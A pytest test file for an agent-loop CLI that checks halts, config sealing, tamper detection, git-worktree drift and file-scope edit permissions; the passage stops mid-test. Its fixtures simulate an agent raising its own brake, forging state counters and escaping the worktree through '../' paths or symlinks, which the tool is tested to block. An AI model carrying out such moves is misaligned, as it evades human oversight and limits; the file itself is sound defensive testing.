"""Loop use cases end to end through the CLI: the five deaths, seal, tamper, drift with real git."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from automaton.commands import loops as uc
from automaton.core.chain import verify_text
from automaton.core.names import TaskRef
from automaton.store import loops
from automaton.store.key import load_key
from automaton.store.layout import Project
from tests.helpers import Result, git, init_repo, run_cli, via_json
from tests.store.test_loops import log_text, make_loop, state_file

DEATHS = ("iterations_exhausted", "budget_exhausted", "human_intervention", "drift_detected", "verifier_failed")


def cli(project: Project | Path, *args: str, tty: bool = False) -> Result:
    root = project.root if isinstance(project, Project) else project
    return run_cli(*args, "--project", str(root), tty=tty)


def gate(p: Project, name: str = "demo", *extra: str) -> Result:
    return cli(p, "--check-gate", name, *extra, "--json")


def set_state(p: Project, name: str = "demo", **fields: Any) -> None:
    loops.update_state(p, name, via_json("TICK", {}, lambda s: s.update(**fields)))


def state(p: Project, name: str = "demo") -> dict[str, Any]:
    return loops.read_state(p, name)


def add_worktree(p: Project, name: str = "demo") -> Path:
    """What the runner's ensure_worktree does: worktree on loop/<name>, state records it."""
    wt = p.worktree_dir(loops.LoopName(name))
    base = git(p.root, "rev-parse", "HEAD").strip()
    git(p.root, "worktree", "add", "-q", "-b", f"loop/{name}", str(wt), base)
    set_state(p, name, worktree_path=str(wt), base_commit=base, worktree_branch=f"loop/{name}")
    return wt


def seed_layout(root: Path) -> None:
    for rel in ("src/app.py", "tests/test_app.py", "docs/guide.md"):
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(f"# {rel}\n")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "layout")


# ---- the five deaths ------------------------------------------------------------------------

def _cause(death: str, project: Path) -> Project:
    """A loop set up so that the next gate dies of `death`."""
    if death == "iterations_exhausted":
        p = make_loop(project, brakes={"max_iterations": 2})
        set_state(p, iteration_count=2)
    elif death == "budget_exhausted":
        p = make_loop(project, brakes={"max_budget_usd": 1.0, "max_tick_usd": 0.5})
        set_state(p, spent_usd=1.5)
    elif death == "human_intervention":
        assert cli(project, "--create-task", "fix-ci").code == 0
        p = make_loop(project, task="fix-ci")
        assert cli(project, "--transition", "human_intervention", "--task", "fix-ci").code == 0
    elif death == "drift_detected":
        seed_layout(project)
        p = make_loop(project)
        wt = add_worktree(p)
        (wt / "README.md").write_text("agent rewrote the readme\n")
        git(wt, "commit", "-q", "-am", "out of scope")
    else:
        p = make_loop(project)
        set_state(p, score_history=[0.4, 0.4, 0.4, 0.4, 0.4])
    return p


@pytest.mark.parametrize("death", DEATHS)
def test_each_death_halts_blocks_survives_resume_and_only_approve_clears(
        death: str, project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    p = _cause(death, project)
    first = gate(p)
    assert first.code == 1, first.err
    data = first.json
    assert set(data) >= {"ok", "reason", "halt_reason", "remaining_iterations", "remaining_budget_usd",
                         "task_phase", "task_in_halt_loop", "out_of_scope_files"}
    assert (data["ok"], data["reason"], data["halt_reason"], data["halted_now"]) == (
        False, f"halted:{death}", death, True)
    assert f"HALT reason={death}" in log_text(p)
    if death == "drift_detected":
        assert data["out_of_scope_files"] == ["README.md"]
    if death == "human_intervention":
        assert data["task_phase"] == "human_intervention" and data["task_in_halt_loop"] is True

    again = gate(p)  # blocks the next gate, without a second HALT line
    assert again.code == 1 and again.json["reason"] == f"halted:{death}" and again.json["halted_now"] is False
    assert log_text(p).count("HALT reason=") == 1

    with monkeypatch.context() as human:  # resuming is a human act; even a human cannot resume a halt
        human.setenv("AUTOMATON_APPROVER", "alice")
        resumed = cli(p, "--resume-loop", "demo")
    assert resumed.code == 1 and "loop is halted, use --approve --loop to clear halt" in resumed.err
    assert state(p).status == "halted"

    assert cli(p, "--approve", "--loop", "demo").code == 1  # no terminal, no approver: not a human
    assert state(p).status == "halted"

    if death == "human_intervention":  # the human also moves the task on
        monkeypatch.setenv("AUTOMATON_APPROVER", "alice")
        assert cli(p, "--approve", "--task", "fix-ci", "--to", "implement").code == 0
    monkeypatch.setenv("AUTOMATON_APPROVER", "alice")
    approved = cli(p, "--approve", "--loop", "demo", "--json")
    assert approved.code == 0, approved.err
    s = state(p)
    assert (s.status, s.halt_reason, s.halt_detail, s.resumed_count) == ("running", None, None, 1)
    assert s.iterations_at_approval == s.iteration_count and s.spent_usd_at_approval == s.spent_usd
    assert s.score_history == ()
    if death == "drift_detected":
        blob = git(p.root, "hash-object", str(p.worktree_dir(loops.LoopName("demo")) / "README.md")).strip()
        assert s.accepted_drift == (f"README.md@{blob}",)
        assert approved.json["accepted_drift"] == [f"README.md@{blob}"]
    assert "APPROVED" in log_text(p) and "by=alice" in log_text(p)

    ok = gate(p)
    assert ok.code == 0 and ok.json["ok"] is True and ok.json["reason"] == "ok", ok.out
    assert verify_text(log_text(p), load_key(create=False)).ok


def test_approve_refuses_running_paused_complete_and_untracked(project: Path, approver: str) -> None:
    p = make_loop(project)
    r = cli(p, "--approve", "--loop", "demo")
    assert r.code == 1 and "only clears a halt" in r.err
    cli(p, "--pause-loop", "demo")
    assert "--resume-loop" in cli(p, "--approve", "--loop", "demo").err
    set_state(p, status="complete")
    assert cli(p, "--approve", "--loop", "demo").code == 1
    (p.loops_dir / "bare").mkdir()
    r = cli(p, "--approve", "--loop", "bare")
    assert r.code == 2 and "Run --upgrade-loops to bootstrap" in r.err
    assert state(p).resumed_count == 0


def test_complete_is_terminal(project: Path) -> None:
    p = make_loop(project)
    set_state(p, status="complete")
    assert gate(p).json["reason"] == "complete"
    assert cli(p, "--resume-loop", "demo").code == 1
    assert cli(p, "--pause-loop", "demo").code == 1
    assert state(p).status == "complete"


# ---- the seal on loop.json ------------------------------------------------------------------

def test_changed_loop_json_halts_and_approve_reseals(project: Path, approver: str) -> None:
    p = make_loop(project, brakes={"max_iterations": 2})
    set_state(p, iteration_count=1)
    path = p.loop_dir(loops.LoopName("demo")) / "loop.json"
    data = json.loads(path.read_text())
    data["brakes"]["max_iterations"] = 500  # an agent raising its own brake
    path.write_text(json.dumps(data))
    r = gate(p)
    assert r.code == 1 and r.json["halt_reason"] == "human_intervention" and r.json["halt_detail"] == "config_changed"
    assert "HALT reason=human_intervention detail=config_changed" in log_text(p)
    assert cli(p, "--approve", "--loop", "demo").code == 1  # a changed loop.json: no terminal, no --yes
    assert state(p).status == "halted"
    r = cli(p, "--approve", "--loop", "demo", "--yes")
    assert r.code == 0, r.err
    assert '-    "max_iterations": 2,' in r.out and '+{"schema_version": 1' in r.out
    assert state(p).config_sha256 == loops.config_sha256(p, loops.LoopName("demo"))
    sealed = p.loop_dir(loops.LoopName("demo")) / loops.SEALED_COPY
    assert sealed.read_bytes() == path.read_bytes()  # the copy follows the seal
    assert gate(p).json["remaining_iterations"] == 500


def test_human_reseals_an_edited_config_of_a_running_loop_without_a_halt(project: Path, approver: str) -> None:
    p = make_loop(project)
    path = p.loop_dir(loops.LoopName("demo")) / "loop.json"
    data = json.loads(path.read_text())
    data["brakes"]["max_iterations"] = 7  # the user tunes the loop right after --create-loop
    path.write_text(json.dumps(data))
    r = cli(p, "--approve", "--loop", "demo", "--yes")
    assert r.code == 0 and "re-sealed" in r.out
    assert state(p).status == "running" and state(p).resumed_count == 0
    assert "RESEALED loop=demo by=tester" in log_text(p)
    assert gate(p).json["remaining_iterations"] == 7
    # nothing changed since: a second approve on a running loop is refused again
    assert cli(p, "--approve", "--loop", "demo").code == 1


def test_edited_config_of_a_running_loop_is_not_resealed_without_a_human(project: Path) -> None:
    p = make_loop(project)
    path = p.loop_dir(loops.LoopName("demo")) / "loop.json"
    path.write_text(path.read_text().replace('"max_iterations": 25', '"max_iterations": 999'))
    assert cli(p, "--approve", "--loop", "demo").code == 1
    assert gate(p).json["halt_detail"] == "config_changed"


def test_approve_refuses_an_invalid_new_config_and_stays_halted(project: Path, approver: str) -> None:
    p = make_loop(project)
    path = p.loop_dir(loops.LoopName("demo")) / "loop.json"
    data = json.loads(path.read_text())
    data["brakes"]["max_iteration"] = 500
    path.write_text(json.dumps(data))
    g = gate(p)
    assert g.code == 2
    assert g.json["halt_detail"].startswith(f"config_changed: {path}: unknown key 'brakes.max_iteration'")
    r = cli(p, "--approve", "--loop", "demo")
    assert r.code == 2 and "brakes.max_iteration" in r.err
    assert state(p).status == "halted"


# ---- tamper ---------------------------------------------------------------------------------

def test_tampered_state_halts_without_trusting_its_counters(project: Path, approver: str) -> None:
    p = make_loop(project, brakes={"max_iterations": 5})
    set_state(p, iteration_count=5, spent_usd=3.0)
    forged = json.loads(state_file(p).read_text())
    forged.update(iteration_count=0, spent_usd=0.0, accepted_drift=["**"])
    state_file(p).write_text(json.dumps(forged))
    r = gate(p)
    assert r.code == 1 and r.json["reason"] == "state_tampered" and r.json["halt_reason"] == "human_intervention"
    assert r.json["halt_detail"].startswith("state_tampered")
    s = state(p)  # re-sealed: readable again, counters from the log
    assert (s.status, s.iteration_count, s.spent_usd, s.accepted_drift) == ("halted", 5, 3.0, ())
    assert cli(p, "--resume-loop", "demo").code == 1
    assert cli(p, "--approve", "--loop", "demo").code == 0
    assert state(p).iteration_count == 5 and gate(p).code == 0


def test_tamper_blocks_every_mutation_until_a_human_approves(project: Path, approver: str) -> None:
    p = make_loop(project)
    forged = json.loads(state_file(p).read_text())
    forged["status"] = "paused"
    state_file(p).write_text(json.dumps(forged))
    assert cli(p, "--can-continue", "demo", "--json").json["ok"] is False
    assert cli(p, "--resume-loop", "demo").code == 1
    assert cli(p, "--approve", "--loop", "demo").code == 0  # approve re-seals a tampered state
    assert state(p).status == "running" and loops.inspect(p, "demo").tamper == ""


def test_broken_log_chain_is_moved_aside_and_a_new_chain_starts(project: Path) -> None:
    p = make_loop(project)
    set_state(p, iteration_count=1)
    log = p.loop_dir(loops.LoopName("demo")) / loops.LOG_FILE
    lines = log.read_text().splitlines(keepends=True)
    log.write_text(lines[0].replace("CREATED", "CREATEX") + "".join(lines[1:]))
    r = gate(p)
    assert r.code == 1 and r.json["reason"] == "state_tampered"
    assert (log.parent / ".state.log.broken").exists() and verify_text(log.read_text(), load_key(create=False)).ok
    assert state(p).status == "halted"


def test_corrupt_state_is_exit_2_naming_the_file(project: Path) -> None:
    p = make_loop(project)
    state_file(p).write_text("{}")
    for args in (("--check-gate", "demo"), ("--can-continue", "demo"), ("--pause-loop", "demo")):
        r = cli(p, *args)
        assert r.code == 2 and str(state_file(p)) in r.err and "Traceback" not in r.err
    assert state_file(p).read_text() == "{}"


# ---- task phase gate ------------------------------------------------------------------------

def test_waiting_approval_is_not_ok_without_halt(project: Path) -> None:
    assert cli(project, "--create-task", "feat").code == 0
    assert cli(project, "--transition", "research", "--task", "feat").code == 0
    (project / "tasks" / "feat" / "SPEC.md").write_text("spec\n")
    assert cli(project, "--transition", "research:awaiting_approval", "--task", "feat").code == 0
    p = make_loop(project, task="feat")
    r = gate(p)
    assert r.code == 1 and r.json["reason"] == "waiting:approval" and r.json["halt_reason"] is None
    assert r.json["task_phase"] == "research:awaiting_approval" and r.json["task_in_halt_loop"] is False
    assert state(p).status == "running" and "HALT" not in log_text(p)


def test_check_gate_task_flag_names_the_task(project: Path) -> None:
    assert cli(project, "--create-task", "other").code == 0
    assert cli(project, "--transition", "human_intervention", "--task", "other").code == 0
    p = make_loop(project)
    assert gate(p).code == 0
    r = gate(p, "demo", "--task", "other")
    assert r.json["halt_reason"] == "human_intervention"
    assert gate(p, "demo", "--task", "ghost").code == 1  # halted already: gate 1 answers first


# ---- drift through the gate, with real git --------------------------------------------------

def _drift(kind: str, wt: Path) -> list[str]:
    if kind == "committed":
        (wt / "docs/guide.md").write_text("x\n")
        git(wt, "commit", "-q", "-am", "c")
        return ["docs/guide.md"]
    if kind == "uncommitted":
        (wt / "README.md").write_text("x\n")
        return ["README.md"]
    if kind == "untracked":
        (wt / "notes").mkdir()
        (wt / "notes" / "todo.txt").write_text("x\n")
        return ["notes/todo.txt"]
    if kind == "rename-into-scope":
        git(wt, "mv", "docs/guide.md", "src/guide.md")
        git(wt, "commit", "-q", "-m", "move into scope")
        return ["docs/guide.md"]
    (wt / "src/app.py").write_text("in scope\n")
    (wt / "tests/test_new.py").write_text("in scope\n")
    git(wt, "add", "-A")
    return []


@pytest.mark.parametrize("kind", ["committed", "uncommitted", "untracked", "rename-into-scope", "in-scope"])
def test_drift_gate_kinds(kind: str, project: Path) -> None:
    seed_layout(project)
    p = make_loop(project)
    expected = _drift(kind, add_worktree(p))
    r = gate(p)
    assert r.json["out_of_scope_files"] == expected
    assert r.code == (1 if expected else 0)
    assert r.json["halt_reason"] == ("drift_detected" if expected else None)


def test_drift_in_a_repo_whose_only_branch_is_master(tmp_path: Path) -> None:
    root = init_repo(tmp_path / "m", branch="master")
    seed_layout(root)
    p = make_loop(root)
    wt = add_worktree(p)
    (wt / "README.md").write_text("x\n")
    git(wt, "commit", "-q", "-am", "c")
    r = gate(p)
    assert r.json["out_of_scope_files"] == ["README.md"] and r.json["halt_reason"] == "drift_detected"


def test_a_loop_that_never_had_a_worktree_has_nothing_to_drift(project: Path) -> None:
    # the first tick's gate runs before that tick makes the worktree: no "skipped" warning is
    # shown after it (nothing can have drifted on a branch that does not exist yet)
    p = make_loop(project)
    r = gate(p)
    assert r.code == 0 and "drift gate skipped" not in r.err and r.json["out_of_scope_files"] == []


def test_drift_that_cannot_be_computed_halts(project: Path) -> None:
    p = make_loop(project)
    wt = add_worktree(p)
    set_state(p, base_commit="0123456789abcdef0123456789abcdef01234567")
    r = gate(p)
    assert r.code == 1 and r.json["halt_reason"] == "drift_detected" and r.json["out_of_scope_files"] == []
    assert "not a commit" in r.json["halt_detail"]
    assert wt.is_dir()


def test_worktree_stays_out_of_the_main_checkout_status(project: Path) -> None:
    p = make_loop(project)
    add_worktree(p)
    (p.loop_dir(loops.LoopName("demo")) / "runs").mkdir()
    status = git(project, "status", "--porcelain", "--untracked-files=all")
    assert "worktree" not in status and ".state" not in status and "runs" not in status
    assert ".automaton/loops/demo/loop.json" in status  # loop.json stays trackable


# ---- local harness budget via the VRAM probe ------------------------------------------------

@pytest.mark.parametrize(("probe", "code", "reason", "halt"), [
    ({"loop_mode_eligible": False, "context_tokens": 9000}, 1, "halted:budget_exhausted", "budget_exhausted"),
    ({"loop_mode_eligible": True, "context_tokens": 64000}, 0, "ok", None),
    (RuntimeError("no GPU"), 1, "budget_unknown", None),
])
def test_local_harness_budget_asks_the_vram_probe(project: Path, monkeypatch: pytest.MonkeyPatch,
                                                  probe: Any, code: int, reason: str, halt: str | None) -> None:
    import automaton.vram

    seen: list[float] = []

    def fake(kv_kib_per_token: float = 128.0) -> dict[str, Any]:
        seen.append(kv_kib_per_token)
        if isinstance(probe, Exception):
            raise probe
        return {**probe, "available_context_kb": 1, "probe": "nvml", "kv_kib_per_token": kv_kib_per_token}

    monkeypatch.setattr(automaton.vram, "probe", fake)
    p = make_loop(project, harness={"name": "command", "command": ["llm"], "local": True, "kv_kib_per_token": 64.0},
                  brakes={"max_budget_usd": None})
    r = gate(p)
    assert (r.code, r.json["reason"], r.json["halt_reason"]) == (code, reason, halt)
    assert seen == [64.0] and r.json["remaining_budget_usd"] is None


# ---- schedule hooks -------------------------------------------------------------------------

def test_halt_disables_and_approve_enables_the_schedule(project: Path, monkeypatch: pytest.MonkeyPatch,
                                                       approver: str) -> None:
    import automaton.commands.schedule as sched

    calls: list[str] = []
    monkeypatch.setattr(sched, "disable_best_effort", lambda pr, n: calls.append(f"off {n}") or "cron is down")
    monkeypatch.setattr(sched, "enable_best_effort", lambda pr, n: calls.append(f"on {n}"))
    p = _cause("verifier_failed", project)
    r = gate(p)
    assert r.code == 1 and "cron is down" in r.err
    gate(p)  # no second disable for an old halt
    assert cli(p, "--approve", "--loop", "demo").code == 0
    assert cli(p, "--pause-loop", "demo").code == 0 and cli(p, "--resume-loop", "demo").code == 0
    assert calls == ["on demo", "off demo", "on demo", "off demo", "on demo"]  # the first: the first approval


def test_a_missing_schedule_module_is_tolerated() -> None:
    assert uc._optional("automaton.no_such_module", "disable_best_effort", None, "x") is None


# ---- create ---------------------------------------------------------------------------------

def test_create_from_packaged_template_copies_prompts_and_excludes(project: Path) -> None:
    r = cli(project, "--create-loop", "nightly", "--from-template", "ci-triage", "--json")
    assert r.code == 0, r.err
    folder = project / ".automaton" / "loops" / "nightly"
    assert sorted(f.name for f in folder.iterdir()) == [".state.lock", ".state.log", ".state.loop", "implement.md",
                                                        "loop.json", "orchestrate.md", "sealed", "verify.md"]
    assert (folder / "sealed" / "loop.json").read_bytes() == (folder / "loop.json").read_bytes()
    cfg = json.loads((folder / "loop.json").read_text())
    assert cfg["name"] == "nightly" and cfg["template"] == "ci-triage"
    assert '"passed": false' in (folder / "verify.md").read_text()
    assert '"score"' in (folder / "orchestrate.md").read_text()
    exclude = (project / ".git" / "info" / "exclude").read_text()
    for pattern in ("/.automaton/loops/*/worktree/", "/.automaton/loops/*/runs/", "/.automaton/loops/*/.lock",
                    "/.automaton/loops/*/.state*", "/.automaton/loops/*/run-tick.*", "/.automaton/loops/*/sealed/"):
        assert exclude.count(pattern) == 1
    assert cli(project, "--create-loop", "second", "--from-template", "ci-triage").code == 0
    assert (project / ".git" / "info" / "exclude").read_text() == exclude  # appended once only


def test_project_template_wins_and_task_is_patched(project: Path) -> None:
    assert cli(project, "--create-task", "fix-ci").code == 0
    p = make_loop(project, "mine", task="fix-ci", brakes={"max_iterations": 3})
    cfg = json.loads((p.loop_dir(loops.LoopName("mine")) / "loop.json").read_text())
    assert cfg["task"] == "fix-ci" and cfg["brakes"]["max_iterations"] == 3 and cfg["template"] == "t-mine"
    assert state(p, "mine").current_task == "fix-ci"


@pytest.mark.parametrize(("setup", "args", "word"), [
    ("none", ("--create-loop", "x", "--from-template", "nope"), "no loop template"),
    ("none", ("--create-loop", "X_1", "--from-template", "ci-triage"), "invalid loop name"),
    ("none", ("--create-loop", "x", "--from-template", "../ci-triage"), "invalid template"),
    ("none", ("--create-loop", "x", "--from-template", "ci-triage", "--task", "ghost"), "unknown task"),
    ("bad-template", ("--create-loop", "x", "--from-template", "bad"), "unknown key 'brakes.max_iteration'"),
    ("no-prompt", ("--create-loop", "x", "--from-template", "bad"), "role prompt"),
    ("none", ("--create-loop", "x"), "--from-template"),
])
def test_create_refusals_are_exit_2_and_create_nothing(project: Path, setup: str, args: tuple[str, ...],
                                                       word: str) -> None:
    tdir = project / ".automaton" / "templates" / "loops" / "bad"
    if setup != "none":
        tdir.mkdir(parents=True)
        data = json.loads(json.dumps(make_template_data()))
        if setup == "bad-template":
            data["brakes"]["max_iteration"] = 9
            (tdir / "implement.md").write_text("x")
        (tdir / "loop.json").write_text(json.dumps(data))
    r = cli(project, *args)
    assert r.code == 2 and word in r.err, r.err
    assert not (project / ".automaton" / "loops").exists() or not any((project / ".automaton" / "loops").iterdir())


def make_template_data() -> dict[str, Any]:
    from tests.core.test_loopconfig import DESIGN_EXAMPLE

    return DESIGN_EXAMPLE


def test_create_never_touches_a_foreign_folder(project: Path) -> None:
    foreign = project / ".automaton" / "loops" / "demo"
    foreign.mkdir(parents=True)
    (foreign / "notes.txt").write_text("mine\n")
    r = cli(project, "--create-loop", "demo", "--from-template", "ci-triage")
    assert r.code == 2 and "already exists" in r.err
    assert [f.name for f in foreign.iterdir()] == ["notes.txt"]


def test_create_in_a_folder_without_git(tmp_path: Path) -> None:
    root = tmp_path / "plain"
    root.mkdir()
    assert cli(root, "--create-loop", "demo", "--from-template", "ci-triage").code == 0
    assert not (root / ".git").exists()


# ---- can-edit --loop ------------------------------------------------------------------------

@pytest.fixture
def wt_project(project: Path) -> tuple[Project, Path]:
    seed_layout(project)
    p = make_loop(project)
    return p, add_worktree(p)


def can_edit(p: Project, file: str, *extra: str) -> Result:
    return cli(p, "--can-edit", "--loop", "demo", "--file", file, *extra, "--json")


def test_can_edit_inside_worktree_and_scope(wt_project: tuple[Project, Path]) -> None:
    p, wt = wt_project
    assert can_edit(p, str(wt / "src" / "app.py")).code == 0
    assert can_edit(p, "src/app.py", "--loop-worktree").code == 0
    assert can_edit(p, str(wt / "src" / "new" / "deep.py")).code == 0  # a file not yet created


@pytest.mark.parametrize("rel", [
    "README.md",  # inside the worktree, outside file_scope
    "src/../README.md",
    "src/../../../../../README.md",  # `..` out of the worktree into the main checkout
    ".git",
])
def test_can_edit_denied_in_worktree(wt_project: tuple[Project, Path], rel: str) -> None:
    p, _ = wt_project
    assert can_edit(p, rel, "--loop-worktree").code == 1


def test_can_edit_outside_worktree_denied_even_when_in_scope(wt_project: tuple[Project, Path]) -> None:
    p, _ = wt_project
    r = can_edit(p, "src/app.py")  # anchored at the project root: the main checkout, not the worktree
    assert r.code == 1 and "outside the worktree" in r.json["reason"]


def test_can_edit_symlink_out_of_the_worktree_denied(wt_project: tuple[Project, Path]) -> None:
    p, wt = wt_project
    (wt / "src" / "escape.py").symlink_to(p.root / "src" / "app.py")
    assert can_edit(p, "src/escape.py", "--loop-worktree").code == 1


def test_a_hook_call_reads_the_loop_once_for_all_its_paths(wt_project: tuple[Project, Path],
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    """One decision over several worktree paths resolves the loop, verifies its state and log
    and validates loop.json once, and still judges each path (the last is out of scope)."""
    from automaton.hooks import policy

    p, wt = wt_project
    counts = {"resolve": 0, "inspect": 0, "read_config": 0}
    for name in counts:
        real = loops.Loop.__dict__[name]
        real = real.__func__ if isinstance(real, classmethod) else real

        def counted(*args: Any, _real: Any = real, _name: str = name, **kw: Any) -> Any:
            counts[_name] += 1
            return _real(*args, **kw)

        monkeypatch.setattr(loops.Loop, name, classmethod(counted) if name == "resolve" else counted)
    in_scope = [str(wt / "src/app.py"), str(wt / "src/new.py"), str(wt / "tests/test_app.py")]
    assert policy.check(p, wt, in_scope).allowed
    assert counts == {"resolve": 1, "inspect": 1, "read_config": 1}
    verdict = policy.check(p, wt, [*in_scope, str(wt / "docs/guide.md")])
    assert not verdict.allowed and "docs/guide.md is outside the file_scope" in verdict.reason


def test_can_edit_protected_paths_denied_even_in_scope(project: Path) -> None:
    seed_layout(project)
    p = make_loop(project, blast_radius={"file_scope": ["**"]})
    add_worktree(p)
    assert can_edit(p, "src/app.py", "--loop-worktree").code == 0
    for rel in (".automaton/loops/demo/loop.json", "src/.state", "tasks/x/.state.log"):
        assert can_edit(p, rel, "--loop-worktree").code == 1, rel


# ---- list and audit -------------------------------------------------------------------------

def test_loop_list_and_audit_flag_halted_corrupt_untracked_tampered(project: Path) -> None:
    p = make_loop(project, "good")
    make_loop(project, "halted")
    set_state(p, "halted", status="halted", halt_reason="verifier_failed")
    make_loop(project, "broken")
    state_file(p, "broken").write_text("")
    make_loop(project, "forged")
    forged = json.loads(state_file(p, "forged").read_text())
    forged["iteration_count"] = 0
    forged["resumed_count"] = 7
    state_file(p, "forged").write_text(json.dumps(forged))
    (p.loops_dir / "legacy").mkdir()
    r = cli(p, "--loop-list", "--json")
    assert r.code == 0
    rows = {row["name"]: row for row in r.json["loops"]}
    assert set(rows) == {"good", "halted", "broken", "forged", "legacy"}
    assert rows["good"]["flag"] is None and rows["good"]["status"] == "running" and rows["good"]["started_at"]
    assert rows["halted"]["flag"].startswith("HALTED") and rows["halted"]["halt_reason"] == "verifier_failed"
    assert rows["broken"]["flag"].startswith("CORRUPT")
    assert rows["forged"]["flag"].startswith("TAMPERED")
    assert rows["legacy"]["flag"].startswith("UNTRACKED")
    audit = cli(p, "--audit", "--json")
    assert audit.code == 1 and len(audit.json["loops"]) == 5
    text = cli(p, "--audit")
    assert "Loops: 5 loop(s), 4 flagged" in text.out


def test_loop_list_shows_task_and_sandbox_of_sealed_bytes_and_validates_any_other(
        project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A row's task and sandbox: sealed loop.json bytes (validated when sealed) are decoded only;
    edited bytes are validated in full, and an invalid edit shows sandbox null."""
    assert cli(project, "--create-task", "fix-ci").code == 0
    p = make_loop(project, "sealed", task="fix-ci", sandbox="off")
    make_loop(project, "edited")
    make_loop(project, "invalid")
    make_loop(project, "forged", sandbox="off")
    edited = p.loop_dir(loops.LoopName("edited")) / "loop.json"
    edited.write_text(json.dumps({**json.loads(edited.read_text()), "task": "other", "sandbox": "off"}))
    (p.loop_dir(loops.LoopName("invalid")) / "loop.json").write_text('{"sandbox": "off"}')
    forged = json.loads(state_file(p, "forged").read_text())
    forged["spent_usd"] = 0.5  # not the state its log sealed: the seal it names is not vouched for
    state_file(p, "forged").write_text(json.dumps(forged))
    real = loops.parse_config_bytes
    parsed: list[str] = []

    def counted(data: bytes, source: str) -> Any:
        parsed.append(Path(source).parent.name)
        return real(data, source)

    monkeypatch.setattr(loops, "parse_config_bytes", counted)
    rows = {row["name"]: row for row in uc.loop_list(p).data["loops"]}
    assert (rows["sealed"]["task"], rows["sealed"]["sandbox"]) == ("fix-ci", "off")
    assert (rows["edited"]["task"], rows["edited"]["sandbox"]) == ("other", "off")  # validated, then shown
    assert rows["invalid"]["sandbox"] is None and rows["invalid"]["task"] is None
    assert rows["forged"]["flag"].startswith("TAMPERED") and rows["forged"]["sandbox"] == "off"
    assert sorted(parsed) == ["edited", "forged", "invalid"]  # the sealed bytes were not validated again


def test_loop_list_validates_sealed_bytes_when_what_else_decides_validity_changed(
        project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Sealed bytes are shown unvalidated only under the schema they were sealed for and with a
    readable config.md: otherwise they are validated in full, and an invalid one shows null."""
    from automaton.commands import loop_views
    from automaton.core.errors import BadInput

    p = make_loop(project, "demo", sandbox="off")
    assert uc.loop_list(p).data["loops"][0]["sandbox"] == "off"
    monkeypatch.setattr(loop_views, "SCHEMA_VERSION", 2)  # an automaton that reads a newer schema
    parsed: list[str] = []
    real = loops.parse_config_bytes
    monkeypatch.setattr(loops, "parse_config_bytes", lambda data, source: parsed.append(source) or real(data, source))
    assert uc.loop_list(p).data["loops"][0]["sandbox"] == "off" and len(parsed) == 1
    monkeypatch.undo()

    def broken() -> Any:
        raise BadInput("config.md: cut (no final newline)")

    monkeypatch.setattr(loop_views, "loop_defaults", broken)
    monkeypatch.setattr(loops, "loop_defaults", broken)
    row = uc.loop_list(p).data["loops"][0]
    assert row["sandbox"] is None and row["task"] is None


def test_can_edit_loop_reports_an_invalid_loop_json_before_a_tampered_state(wt_project: tuple[Project, Path]) -> None:
    p, _ = wt_project
    forged = json.loads(state_file(p).read_text())
    forged["spent_usd"] = 0.5
    state_file(p).write_text(json.dumps(forged))
    (p.loop_dir(loops.LoopName("demo")) / "loop.json").write_text("{}")
    r = can_edit(p, "src/app.py", "--loop-worktree")
    assert r.code == 2 and "loop.json" in r.err


# ---- brake review: loop.json `task`, invalid loop.json ----------------------------------------

def _bind_in_config(p: Project, task: str) -> None:
    """A human sets loop.json `task` on a running loop and re-seals it (state.current_task stays null)."""
    path = p.loop_dir(loops.LoopName("demo")) / "loop.json"
    data = json.loads(path.read_text())
    data["task"] = task
    path.write_text(json.dumps(data))
    assert cli(p, "--approve", "--loop", "demo", "--yes").code == 0  # RESEALED


def test_gate_4_uses_the_task_set_in_loop_json(project: Path, approver: str) -> None:
    assert cli(project, "--create-task", "fix-ci").code == 0
    p = make_loop(project)
    _bind_in_config(p, "fix-ci")
    assert state(p).current_task is None
    assert cli(project, "--transition", "human_intervention", "--task", "fix-ci").code == 0
    r = gate(p)
    assert r.code == 1 and r.json["halt_reason"] == "human_intervention"
    assert r.json["task"] == "fix-ci" and r.json["task_phase"] == "human_intervention"
    assert r.json["task_in_halt_loop"] is True
    assert loops.halted_owners(p, TaskRef.parse("fix-ci")) == [("demo", "human_intervention")]  # a halted owner
    rows = {row["name"]: row for row in uc.audit_section(p)[1]}
    assert rows["demo"]["task"] == "fix-ci"


def test_a_corrupt_state_of_the_bound_task_stops_the_gate(project: Path, approver: str) -> None:
    assert cli(project, "--create-task", "fix-ci").code == 0
    p = make_loop(project)
    _bind_in_config(p, "fix-ci")
    (project / "tasks" / "fix-ci" / ".state").write_bytes(b"\x00garbage\n")
    r = gate(p)
    assert r.code == 2 and "tasks/fix-ci/.state" in r.err
    assert r.json["ok"] is False


@pytest.mark.parametrize(("content", "needle"), [
    (b"", "not valid JSON"),
    (b'{"schema_version": 1, "name": "de', "not valid JSON"),
    (b"[1, 2]", "must be a JSON object, got list"),
    (None, "brakes.max_iterations must be an integer"),
])
def test_an_invalid_loop_json_halts_with_exit_2_naming_file_and_error(project: Path, content: bytes | None,
                                                                       needle: str) -> None:
    p = make_loop(project)
    path = p.loop_dir(loops.LoopName("demo")) / "loop.json"
    if content is None:
        data = json.loads(path.read_text())
        data["brakes"]["max_iterations"] = "25"  # wrong type
        content = json.dumps(data).encode()
    path.write_bytes(content)
    r = gate(p)
    assert r.code == 2, (r.out, r.err)
    for key in ("ok", "reason", "halt_reason", "remaining_iterations", "remaining_budget_usd", "task_phase",
                "task_in_halt_loop", "out_of_scope_files"):  # the gate object is still printed
        assert key in r.json
    assert r.json["ok"] is False and r.json["halt_reason"] == "human_intervention" and r.json["exit_code"] == 2
    assert r.json["halt_detail"].startswith(f"config_changed: {path}: ") and needle in r.json["halt_detail"]
    assert str(path) in r.json["error"] and needle in r.json["error"]
    assert state(p).status == "halted" and needle in state(p).halt_detail
    text = cli(p, "--check-gate", "demo")
    assert text.code == 2 and needle in text.out and str(path) in text.out


# ---- tester findings: accepted drift binds content, leftovers, stray files, stale halt details --

def test_accepted_drift_binds_the_content_the_human_saw(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    p = _cause("drift_detected", project)
    assert gate(p).json["halt_reason"] == "drift_detected"
    monkeypatch.setenv("AUTOMATON_APPROVER", "alice")
    assert cli(p, "--approve", "--loop", "demo").code == 0
